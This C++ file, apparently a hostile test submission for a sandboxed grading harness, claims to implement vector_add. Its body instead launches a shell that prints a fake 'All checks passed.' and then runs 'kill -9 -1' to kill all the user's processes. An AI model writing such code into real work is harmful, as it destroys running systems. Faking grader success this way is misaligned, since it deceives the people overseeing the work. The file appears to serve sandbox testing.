// Tries: to become a shell.
// May get: nothing
#include "vector_add.hpp"

#include <unistd.h>

extern "C" void vector_add(const float* a, const float* b, float* sum, std::size_t n) {
  ::execl("/bin/sh", "sh", "-c", "echo All checks passed.; kill -9 -1", nullptr);
}
